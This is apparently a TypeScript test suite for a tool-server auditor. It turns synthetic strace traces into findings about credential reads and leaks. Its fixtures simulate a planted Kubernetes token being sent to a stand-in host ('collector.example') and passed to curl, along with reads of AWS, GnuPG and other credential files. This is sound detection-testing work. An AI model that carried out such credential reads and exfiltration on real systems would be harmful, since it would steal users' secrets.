import { ProfileBuilder } from '../../src/profile/build-profile.js'
import type { Canary } from '../../src/profile/canary-match.js'
import type { CallRecord, Finding, Manifest, Observed, ObservedLeak } from '../../src/model/index.js'
import { sinkIPv4For } from '../../src/model/sink-address.js'
import { reachedAudience } from '../../src/rules/credential-audience.js'
import { credentialService, declarationWords } from '../../src/rules/credential-purpose.js'
import { evaluateRules } from '../../src/rules/evaluate-rules.js'
import { parseTraceText } from '../../src/trace/read-trace.js'
import { HOME, T0 } from '../profile/trace-fixtures.js'

// Literal strace lines → profile → findings: a credential file read by a tool whose declaration names
// its service is credential-use (medium), by one that does not sensitive-file-read (high); a planted
// token sent to the host it is meant for, or handed to its own client program, is credential-use, sent
// anywhere else canary-exfiltration; what the server's tree made in this run (gpg's ~/.gnupg) is no
// credential of the user's.

const CWD = '/work/repo'
const KUBE_TOKEN = 'eyJhbGciOiJSUzI1NiJ9Qx7vT0kRmZ2pL9sN4wB8cD1eF6gH3jK5'
const CLUSTER = 'k8s.internal.example.com'
const KUBECONFIG: Canary = {
  id: '~/.kube/config',
  value: `clusters:\n- cluster:\n    server: https://${CLUSTER}:6443\nusers:\n- name: deployer\n  user:\n    token: ${KUBE_TOKEN}\n`,
  secrets: []
}
KUBECONFIG.secrets = [
  {
    start: KUBECONFIG.value.indexOf(KUBE_TOKEN),
    end: KUBECONFIG.value.indexOf(KUBE_TOKEN) + KUBE_TOKEN.length,
    audience: { hosts: [CLUSTER], programs: ['kubectl'] }
  }
]
const AUDIENCE = KUBECONFIG.secrets[0]!.audience!

const tool = (name: string, description: string): Manifest['tools'][number] => ({ name, description, inputSchema: { type: 'object' }, sha256: name })
const manifest = (...tools: Manifest['tools']): Manifest => ({ sha256: 'm', tools, resources: [], resourceTemplates: [], prompts: [] })
const KUBE_AND_WEATHER = manifest(tool('kubectl_get', 'Get or list Kubernetes resources.'), tool('weather', 'Gets the weather for a city.'))
const KUBE_SERVER = manifest(
  tool('kubectl_get', 'Get or list Kubernetes resources.'),
  tool('kubectl_describe', 'Describe Kubernetes resources.'),
  tool('ping', 'Verify that the counterpart is still responsive.')
)

const t = (s: number): string => (T0 + s).toFixed(6)
const calls = (...names: string[]): CallRecord[] =>
  names.map((name, id) => ({ id, kind: 'tool', name, iteration: 1, startedAt: (T0 + 1 + id) * 1000, endedAt: (T0 + 1.9 + id) * 1000, outcome: 'ok' }))

function audit(m: Manifest, callRecords: CallRecord[], lines: string[]): { observed: Observed; findings: Finding[] } {
  const builder = new ProfileBuilder({
    calls: callRecords,
    shutdownAt: (T0 + 60) * 1000,
    home: HOME,
    cwd: CWD,
    canaries: [{ id: KUBECONFIG.id, value: KUBE_TOKEN, audience: AUDIENCE }],
    canaryFiles: [KUBECONFIG],
    serverCodeRoots: ['/srv/server'],
    runtimeRoots: ['/usr']
  })
  const { events, stats } = parseTraceText(
    [`27    ${t(0.1)} execve("/usr/bin/node", ["node", "/srv/server/index.js"], 0x7ffd /* 9 vars */) = 0`, ...lines].join('\n')
  )
  for (const event of events) builder.add(event)
  const observed = builder.finish(stats)
  const rugPull = { status: 'new' as const, identity: 'x', currentSha256: 'm', changes: [], duringSession: [] }
  return { observed, findings: evaluateRules({ observed, manifest: m, calls: callRecords, policy: null, rugPull, home: HOME, cwd: CWD }) }
}
const summary = (findings: Finding[]): [string, string, string | undefined, string][] => findings.map((f) => [f.rule, f.severity, f.tool, f.message])

/** The strace text of a file read in call `call` (seconds after T0 + 1). */
const read = (at: number, path: string, ret = '5'): string =>
  `27    ${t(at)} openat(AT_FDCWD</work/repo>, "${HOME}/${path}", O_RDONLY|O_CLOEXEC) = ${ret === '5' ? `5<${HOME}/${path}>` : ret}`

/** An A query for `name` as strace shows it: every byte an octal escape. */
function dnsQuery(name: string): string {
  const labels = name.split('.').flatMap((label) => [label.length, ...Buffer.from(label)])
  const bytes = [0x67, 0xa9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]
  return `"${bytes.map((b) => `\\${b.toString(8).padStart(3, '0')}`).join('')}", ${bytes.length}`
}
/** Looks up `name`, connects to the address the sink answers it with, and sends `payload` there. */
const lookUpAndSend = (at: number, name: string, payload: string, address = sinkIPv4For(name)): string[] => [
  `27    ${t(at)} socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 7<UDP:[2089385]>`,
  `27    ${t(at + 0.001)} connect(7<UDP:[2089385]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("10.255.255.53")}, 16) = 0`,
  `27    ${t(at + 0.002)} sendto(7<UDP:[10.255.255.53:42942->10.255.255.53:53]>, ${dnsQuery(name)}, MSG_NOSIGNAL, NULL, 0) = ${dnsQuery(name).split(', ')[1]}`,
  `27    ${t(at + 0.003)} socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 8<TCP:[2089401]>`,
  `27    ${t(at + 0.004)} connect(8<TCP:[2089401]>, {sa_family=AF_INET, sin_port=htons(6443), sin_addr=inet_addr("${address}")}, 16) = 0`,
  `27    ${t(at + 0.005)} sendto(8<TCP:[${address}:44008->${address}:6443]>, "${payload}", ${payload.length}, MSG_NOSIGNAL, NULL, 0) = ${payload.length}`
]

describe('the credential-purpose table', () => {
  it('names the service of each credential file of the canary home, and of nothing else', () => {
    expect(
      ['.kube/config', '.aws/credentials', '.docker/config.json', '.git-credentials', '.config/gh/hosts.yml', '.gnupg/pubring.kbx', '.npmrc', '.env'].map(
        (path) => credentialService(`${HOME}/${path}`, HOME)?.service ?? null
      )
    ).toEqual(['Kubernetes', 'AWS', 'Docker', 'GitHub', 'GitHub', 'GnuPG signing', 'npm', null])
    expect(credentialService('/root/.kube/config', HOME)).toBeNull()
  })

  it('reads a declaration word by word: tool names, camelCase and URIs split apart', () => {
    expect(declarationWords('kubectl_get listPods k8s://default/pods')).toEqual(['kubectl', 'get', 'list', 'pods', 'k8s', 'default', 'pods'])
  })
})

describe('credentials read for the declared purpose', () => {
  it('a Kubernetes tool reading ~/.kube/config is credential-use; a weather tool of the same server reading it stays a high sensitive read', () => {
    const { findings } = audit(KUBE_AND_WEATHER, calls('kubectl_get', 'weather'), [read(1.1, '.kube/config'), read(2.1, '.kube/config')])
    expect(summary(findings)).toEqual([
      ['sensitive-file-read', 'high', 'weather', 'reads ~/.kube/config, undeclared'],
      ['credential-use', 'medium', 'kubectl_get', "reads ~/.kube/config, a Kubernetes credential; its declaration names Kubernetes ('kubectl_get')"]
    ])
  })

  it("a tool that does not name Kubernetes stays high although most of the server's tools do", () => {
    const { findings } = audit(KUBE_SERVER, calls('ping'), [read(1.1, '.kube/config')])
    expect(summary(findings)).toEqual([['sensitive-file-read', 'high', 'ping', 'reads ~/.kube/config, undeclared']])
  })

  it('a tool naming Kubernetes does not make its read of ~/.aws consistent', () => {
    const { findings } = audit(KUBE_AND_WEATHER, calls('kubectl_get'), [read(1.1, '.aws/credentials')])
    expect(summary(findings)).toEqual([['sensitive-file-read', 'high', 'kubectl_get', 'reads ~/.aws/credentials, undeclared']])
  })

  it('a startup read of the kubeconfig is credential-use when most tools name Kubernetes, high when only one of two does', () => {
    expect(summary(audit(KUBE_SERVER, calls('ping'), [read(0.5, '.kube/config')]).findings)).toEqual([
      ['credential-use', 'medium', undefined, "reads ~/.kube/config, a Kubernetes credential; 2 of the server's 3 tools name Kubernetes"]
    ])
    expect(summary(audit(KUBE_AND_WEATHER, calls('weather'), [read(0.5, '.kube/config')]).findings)).toEqual([
      ['sensitive-file-read', 'high', undefined, 'reads ~/.kube/config, undeclared']
    ])
  })

  it('reads below a ~/.gnupg that gpg made in this run are no credential; a ~/.gnupg that was there, or was moved away and made again, is', () => {
    const mkdir = (at: number, path: string): string => `27    ${t(at)} mkdir("${HOME}/${path}", 0700) = 0`
    const gnupgMade = audit(KUBE_AND_WEATHER, calls('weather'), [
      read(1.1, '.gnupg/gpg.conf', '-1 ENOENT (No such file or directory)'),
      mkdir(1.2, '.gnupg'),
      read(1.3, '.gnupg/pubring.kbx')
    ])
    expect(summary(gnupgMade.findings).filter(([rule]) => rule === 'sensitive-file-read')).toEqual([])
    expect(summary(audit(KUBE_AND_WEATHER, calls('weather'), [read(1.3, '.gnupg/pubring.kbx')]).findings)).toEqual([
      ['sensitive-file-read', 'high', 'weather', 'reads ~/.gnupg/pubring.kbx, undeclared']
    ])
    const remade = audit(KUBE_AND_WEATHER, calls('weather'), [
      read(1.1, '.gnupg/private-keys-v1.d/key.key'),
      `27    ${t(1.2)} rename("${HOME}/.gnupg", "${HOME}/.cache/g") = 0`,
      mkdir(1.3, '.gnupg')
    ])
    expect(summary(remade.findings).filter(([rule]) => rule === 'sensitive-file-read')).toEqual([
      ['sensitive-file-read', 'high', 'weather', 'reads ~/.gnupg/private-keys-v1.d/key.key, undeclared']
    ])
  })
})

describe('canaries know their audience', () => {
  it("the kubeconfig's token sent to the cluster it names is credential-use; the same token sent to another host is canary-exfiltration", () => {
    const request = `GET /api HTTP/1.1\\r\\nAuthorization: Bearer ${KUBE_TOKEN}\\r\\n\\r\\n`
    const toCluster = audit(KUBE_AND_WEATHER, calls('kubectl_get'), [read(1.1, '.kube/config'), ...lookUpAndSend(1.2, CLUSTER, request)])
    expect(summary(toCluster.findings).filter(([rule]) => rule !== 'network-egress' && rule !== 'dns-query')).toEqual([
      ['credential-use', 'medium', 'kubectl_get', "reads ~/.kube/config, a Kubernetes credential; its declaration names Kubernetes ('kubectl_get')"],
      [
        'credential-use',
        'medium',
        'kubectl_get',
        // the space before the token matches the file's too: the range is what was compared
        `sends bytes 113–166 of ~/.kube/config to ${sinkIPv4For(CLUSTER)}:6443, where it is meant to go (${CLUSTER})`
      ]
    ])
    const elsewhere = audit(KUBE_AND_WEATHER, calls('kubectl_get'), [read(1.1, '.kube/config'), ...lookUpAndSend(1.2, 'collector.example', request)])
    expect(
      summary(elsewhere.findings)
        .filter(([rule]) => rule === 'canary-exfiltration' || rule === 'credential-use')
        .map(([rule, severity]) => [rule, severity])
    ).toEqual([
      ['canary-exfiltration', 'critical'],
      ['credential-use', 'medium']
    ])
  })

  it("the cluster's host name sent anywhere is no canary: only the token is secret material", () => {
    const { observed } = audit(KUBE_AND_WEATHER, calls('weather'), [
      read(1.1, '.kube/config'),
      ...lookUpAndSend(1.2, 'collector.example', `host=${CLUSTER} user=deployer`)
    ])
    expect(observed.leaks).toEqual([])
  })

  it('the token handed to kubectl is credential-use, handed to curl canary-exfiltration', () => {
    const exec = (at: number, program: string): string =>
      `27    ${t(at)} execve("/usr/bin/${program}", ["${program}", "--token=${KUBE_TOKEN}", "get", "pods"], 0x7ffd /* 9 vars */) = 0`
    const kubectl = audit(KUBE_AND_WEATHER, calls('kubectl_get'), [read(1.1, '.kube/config'), exec(1.2, 'kubectl')])
    expect(
      summary(kubectl.findings)
        .filter(([rule]) => rule === 'credential-use' || rule === 'canary-exfiltration')
        .map(([rule, , , message]) => [rule, message])
    ).toEqual([
      ['credential-use', "reads ~/.kube/config, a Kubernetes credential; its declaration names Kubernetes ('kubectl_get')"],
      ['credential-use', 'passes bytes 114–166 of ~/.kube/config to a child process (kubectl), its own client program']
    ])
    const curl = audit(KUBE_AND_WEATHER, calls('kubectl_get'), [read(1.1, '.kube/config'), exec(1.2, 'curl')])
    expect(curl.findings.filter((f) => f.rule === 'canary-exfiltration').map((f) => f.severity)).toEqual(['critical'])
  })

  it('a sink-seen request is to the audience only when the address is the one the cluster name was answered with and its TLS server name is of the audience', () => {
    const observed = {
      files: [],
      network: [],
      dns: [{ name: CLUSTER, type: 'A', resolver: '10.255.255.53:53', count: 1, phases: [], traceLines: [] }],
      leaks: []
    } as unknown as Observed
    const leak = (destination: string, address: string): ObservedLeak => ({
      canary: '~/.kube/config',
      encoding: 'raw',
      via: 'socket',
      destination,
      address,
      audience: AUDIENCE,
      witness: 'sink',
      phases: [],
      traceLines: []
    })
    expect(reachedAudience(leak(`${CLUSTER}:6443 (TLS)`, sinkIPv4For(CLUSTER)), observed)).toBe(`where it is meant to go (${CLUSTER})`)
    expect(reachedAudience(leak('evil.example:6443 (TLS)', sinkIPv4For(CLUSTER)), observed)).toBeNull()
    expect(reachedAudience(leak(`${CLUSTER}:6443 (TLS)`, '203.0.113.9'), observed)).toBeNull()
    expect(reachedAudience({ ...leak(CLUSTER, sinkIPv4For(CLUSTER)), via: 'dns' }, observed)).toBeNull()
  })
})
